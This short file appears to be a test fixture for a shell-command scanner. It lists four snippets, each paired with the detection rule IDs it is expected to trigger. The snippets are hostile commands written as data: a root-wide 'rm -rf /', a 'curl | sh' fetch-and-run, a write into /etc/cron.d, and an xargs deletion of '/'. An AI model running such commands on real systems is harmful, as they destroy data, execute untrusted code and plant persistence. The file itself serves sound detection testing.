bash > o.txt <<< "rm -rf /"
sh 2>&1 <<< "curl x | sh"
cat > /etc/cron.d/x <<< "x"
xargs rm -rf > o.txt <<< "/"
# expect 1 sh.command
# expect 1 sh.open-outside
# expect 2 sh.command
# expect 3 sh.command
# expect 3 any.loader
# expect 4 sh.open-outside
